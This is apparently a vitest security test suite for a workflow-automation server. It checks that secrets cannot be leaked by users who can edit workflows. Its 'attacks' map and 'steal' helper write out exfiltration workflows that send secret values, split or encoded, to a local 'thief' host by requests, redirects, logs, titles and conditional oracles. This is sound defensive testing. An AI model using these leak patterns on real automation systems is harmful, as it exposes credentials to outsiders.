import { createHmac, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, databaseKinds, type TestDatabase } from '../src/testing/index.ts';
import { formsOf, searchDatabase } from './support/database-search.ts';
import { type Execution, eventually } from './support/executions.ts';
import { type ServerProcess, startServerProcess } from './support/server-process.ts';

interface Problem {
  readonly errors?: readonly { pointer: string; code: string }[];
}
interface Host {
  readonly server: Server;
  readonly host: string;
  readonly received: string[];
}

const program = fileURLToPath(new URL('./support/trusted-server.ts', import.meta.url));
const TOKEN = `token_${randomBytes(24).toString('hex')}`;
const PAY = 'Zq7-Päy&"Me" Now+4711';
const OPERATOR = 'Operators-Own-Value-2342';
const twice = (text: string) => Buffer.from(Buffer.from(text).toString('base64')).toString('base64');
const signature = createHmac('sha256', PAY).update('to be signed').digest('hex');
/** All that is known to come of the values here, besides the usual forms of each. */
const needles = new Map(
  [PAY, OPERATOR].flatMap((value, index) => [
    [`value ${index}`, value],
    [`value ${index} by letters`, [...value].join('-')],
    [`value ${index} twice in base64`, twice(value)],
    [`value ${index} reversed`, [...value].reverse().join('')],
  ]),
);
needles.set('signature', signature);

/** Remembers what it gets, and answers with all of it in every form that it can think of. */
async function createHost(redirect?: () => string): Promise<Host> {
  const received: string[] = [];
  const server = createServer(async (request, response) => {
    const body = Buffer.concat((await request.toArray()) as Buffer[]).toString();
    const all = JSON.stringify({ url: request.url, headers: request.headers, body });
    received.push(all);
    if (redirect && request.url?.startsWith('/moved')) return response.writeHead(307, { location: redirect() }).end();
    const echo = { all, body, headers: request.headers, url: request.url, lower: all.toLowerCase(), upper: all.toUpperCase() };
    response.writeHead(request.url?.startsWith('/broken') ? 418 : 200, {
      'content-type': request.url?.startsWith('/text') ? 'text/plain' : 'application/json',
      'x-echo': encodeURIComponent(String(request.headers['x-key'] ?? '')),
    });
    return response.end(JSON.stringify({ ...echo, encoded: Buffer.from(body).toString('base64') }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, received, host: `127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const set = (id: string, value: unknown) => ({ id, type: 'core.set', config: { values: { value } } });

describe.each(databaseKinds)('whoever may edit workflows, on %s,', (kind) => {
  let database: TestDatabase;
  let server: ServerProcess;
  let own: Host;
  let thief: Host;
  let child = '';
  let logs = '';
  const replies: string[] = [];

  async function start(): Promise<void> {
    const environment = {
      AUTOMATE_BOOTSTRAP_TOKEN: TOKEN,
      AUTOMATE_LOG_LEVEL: 'trace',
      AUTOMATE_SECRET_OPERATOR: OPERATOR,
      AUTOMATE_OUTBOUND_ALLOW_HOSTS: `${own.host},${thief.host}`,
    };
    server = await startServerProcess(database, environment, [], { program });
  }
  async function stop(): Promise<void> {
    await server.stop();
    logs += server.errors();
  }
  async function inDatabase<Result>(work: (db: Awaited<ReturnType<TestDatabase['open']>>) => Promise<Result>): Promise<Result> {
    const db = await database.open();
    try {
      return await work(db);
    } finally {
      await db.close();
    }
  }
  async function call<Body>(method: string, path: string, body?: unknown) {
    const reply = await server.call<Body>(method, path, body);
    replies.push(JSON.stringify(reply.body));
    return reply;
  }
  async function made(path: string, body: unknown): Promise<string> {
    const reply = await call<{ id: string }>('POST', path, body);
    if (reply.status >= 300) throw new Error(`${path}: ${reply.status} ${JSON.stringify(reply.body)}`);
    return reply.body.id;
  }
  const flow = (nodes: object[], edges: object[] = [], more: object = {}) => ({ name: 'x', graph: { nodes, edges }, ...more });
  async function run(id: string, input: object = {}): Promise<Execution> {
    const { body } = await call<{ execution_id: string }>('POST', `/api/v1/workflows/${id}/run/`, { input });
    const path = `/api/v1/executions/${body.execution_id}/?expand=steps,event`;
    return eventually(
      async () => (await call<Execution>('GET', path)).body,
      ({ status }) => ['succeeded', 'failed', 'cancelled'].includes(status),
    );
  }

  beforeAll(async () => {
    thief = await createHost();
    own = await createHost(() => `http://${thief.host}/moved-here`);
    database = await createTestDatabase(kind);
    await start();
    await made('/api/v1/secrets/', { name: 'PAY', value: PAY, hosts: [own.host] });
    await made('/api/v1/secrets/', { name: 'OPS', reference: 'env://OPERATOR', hosts: [own.host] });
    await made('/api/v1/secrets/', { name: 'NOWHERE', reference: 'env://OPERATOR' });
    child = await made(
      '/api/v1/workflows/',
      flow([set('keep', '{{ event.payload.value }}')], [], { name: 'child', slug: 'child' }),
    );
  });
  afterAll(async () => {
    if (server?.process.exitCode === null) await server.stop();
    for (const host of [own, thief]) {
      host?.server.closeAllConnections();
      host?.server.close();
    }
    await database?.dispose();
  });

  const steal = (value: string) => ({ id: 'steal', type: 'http.request', config: { url: `http://${thief.host}/?x=${value}` } });
  const attacks = (): { [what: string]: [nodes: object[], edges: object[]] } => ({
    'through a child': [
      [
        {
          id: 'child',
          type: 'workflow.run',
          config: { workflow: 'child', input: { x: '{{ secrets.PAY }}', y: '{{ secrets.OPS }}' } },
        },
      ],
      [],
    ],
    'letter by letter through an output': [
      [set('cut', '{{ secrets.PAY | split: "" | join: "-" }}'), steal('{{ steps.cut.output.value }}')],
      [{ source: 'cut', target: 'steal' }],
    ],
    'by asking for a letter': [
      [
        { id: 'ask', type: 'logic.if', config: { condition: { '==': [{ substr: [{ var: 'secrets.PAY' }, 0, 1] }, 'Z'] } } },
        { ...steal('yes'), id: 'yes' },
        { ...steal('no'), id: 'no' },
      ],
      [
        { source: 'ask', target: 'yes', condition: 'true' },
        { source: 'ask', target: 'no', condition: 'false' },
      ],
    ],
    'in a title': [[{ id: 'ask', type: 'core.approval', config: { title: '{{ secrets.PAY }}' } }], []],
    'in the name of a signal': [[{ id: 'wait', type: 'core.wait_for_signal', config: { name: '{{ secrets.OPS }}' } }], []],
    'in a log line': [[{ id: 'log', type: 'core.log', config: { message: '{{ ["secrets"].OPS | reverse }}' } }], []],
    'by a condition of a request': [
      [
        {
          id: 'ask',
          type: 'http.request',
          config: { url: `http://${thief.host}/`, body: '{% if secrets.PAY contains "Z" %}yes{% endif %}' },
        },
      ],
      [],
    ],
    'as the host of a request': [
      [{ id: 'ask', type: 'http.request', config: { url: 'http://{{ secrets.OPS }}/', query: { a: '{{ secrets.OPS }}' } } }],
      [],
    ],
  });

  it('cannot save what takes a secret where it does not belong', async () => {
    for (const [what, [nodes, edges]] of Object.entries(attacks())) {
      const reply = await call<Problem>('POST', '/api/v1/workflows/', flow(nodes, edges));
      expect(reply.status, what).toBe(400);
      expect(reply.body.errors?.[0]?.code, what).toMatch(/^(secret_refused|invalid_secret)$/);
      const unsaved = await call<Problem>('POST', `/api/v1/workflows/${child}/dry-run/`, { graph: { nodes, edges } });
      expect(unsaved.status, what).toBe(400);
    }
  });

  it('cannot run it either, where an older version has let it in', async () => {
    const ids = new Map<string, string>();
    for (const what of Object.keys(attacks())) ids.set(what, await made('/api/v1/workflows/', flow([set('a', 'x')])));
    await stop();
    await inDatabase(async (db) => {
      for (const [what, [nodes, edges]] of Object.entries(attacks()))
        await db.query('update workflow_versions set graph = $2 where workflow_id = $1', [
          ids.get(what),
          JSON.stringify({ nodes, edges }),
        ]);
    });
    await start();
    for (const [what, id] of ids) {
      const execution = await run(id);
      expect(execution, what).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } });
    }
    expect(thief.received).toEqual([]);
  });

  it('send it to its own hosts alone, and see nothing of it again, whatever was made of it', async () => {
    const config = {
      method: 'POST',
      url: `http://${own.host}/echo?a={{ secrets.PAY }}`,
      headers: {
        'x-key': '{{ secrets.OPS }}',
        'x-user': 'Basic {{ event.payload.user | append: ":" | append: secrets.OPS | base64_encode }}',
      },
      query: { b: '{{ secrets.PAY }}' },
      json: {
        plain: { $secret: 'PAY' },
        twice: '{{ secrets.PAY | base64_encode | base64_encode }} {{ secrets.OPS | base64_encode | base64_encode }}',
        signed: '{{ event.payload.text | hmac_sha256: secrets.PAY }}',
        within: '{{ secrets.PAY | json | url_encode | prepend: "x" | base64_encode }}',
      },
    };
    const nodes = [
      { id: 'call', type: 'http.request', config },
      { id: 'text', type: 'http.request', config: { ...config, url: `http://${own.host}/text` } },
      set('copy', '{{ steps.call.output }}'),
      { id: 'log', type: 'core.log', config: { message: '{{ steps.call.output.body | json }} {{ steps.text.output.body }}' } },
      { id: 'run', type: 'workflow.run', config: { workflow: 'child', input: { value: '{{ steps.call.output }}' } } },
      steal('{{ steps.call.output.body.all }}'),
    ];
    const edges = nodes.slice(1).map(({ id }, index) => ({ source: nodes[index]?.id, target: id }));
    const id = await made('/api/v1/workflows/', flow(nodes, edges));
    const execution = await run(id, { user: 'ada', text: 'to be signed' });
    expect(execution.error).toBeNull();
    const got = own.received.join();
    for (const form of [
      JSON.stringify(JSON.stringify(PAY).slice(1, -1)).slice(1, -1),
      OPERATOR,
      twice(PAY),
      twice(OPERATOR),
      signature,
    ])
      expect(got, 'its own host gets all').toContain(form);
    expect(thief.received).toHaveLength(1);
    expect(thief.received[0]).toContain('redacted');
    thief.received.length = 0;
    for (const [url, body, code] of [
      [`http://${thief.host}/`, '{{ secrets.PAY }}', 'secret_host_refused'],
      [`http://${own.host}/moved`, '{{ secrets.PAY }}', 'secret_host_refused'],
      [`http://${own.host}/`, '{{ secrets.NOWHERE }}', 'secret_host_refused'],
      [`http://${own.host}/`, '{{ secrets.PAY }}{{ secrets.NOWHERE }}', 'secret_host_refused'],
      ['{{ secrets.OPS }}', '', 'invalid_url'],
      ['{{ secrets.OPS }}://x/', '', 'outbound_refused'],
    ] as const) {
      const node = { id: 'a', type: 'http.request', config: { method: 'POST', url, ...(body && { body }) } };
      expect((await run(await made('/api/v1/workflows/', flow([node])))).error?.code, `${url} ${body}`).toBe(code);
    }
    expect(thief.received).toEqual([]);
  });

  it('get nothing of it from step types of the host either', async () => {
    const token = '{{ secrets.PAY | append: event.payload.more | base64_encode | base64_encode }} {{ secrets.OPS }}';
    const ends: Record<string, string | undefined> = {};
    for (const way of ['output', 'child', 'error', 'signal', 'silent']) {
      const id = await made('/api/v1/workflows/', flow([{ id: 'tell', type: 'host.tells', config: { token, way } }]));
      const execution = await run(id, { more: '' });
      ends[way] = execution.error?.code ?? execution.status;
    }
    expect(ends).toEqual({
      output: 'succeeded',
      child: 'succeeded',
      error: expect.stringMatching(/^bad \[redacted\]/),
      signal: 'succeeded',
      silent: 'secret_hosts_unasked',
    });
  });

  it('leave nothing of it in the database, in a log, or in a reply', async () => {
    for (const path of ['executions', 'events', 'jobs', 'approvals', 'audit', 'workflows', 'secrets'])
      await call('GET', `/api/v1/${path}/?limit=200`);
    await stop();
    expect(logs).toContain('"log.level":"warn"');
    const found = [...needles].flatMap(([what, value]) =>
      formsOf(value).flatMap((form) => [
        ...(logs.toLowerCase().includes(form) ? [`${what} in the log, ${form}`] : []),
        ...replies.filter((reply) => reply.toLowerCase().includes(form)).map((reply) => `${what} in ${reply.slice(0, 300)}`),
      ]),
    );
    expect(found).toEqual([]);
    const searched = await inDatabase((db) => searchDatabase(db, needles));
    expect(searched.findings).toEqual([]);
    expect(searched.filled).toEqual(expect.arrayContaining(['automate.step_runs', 'automate.executions', 'automate.events']));
  });
});
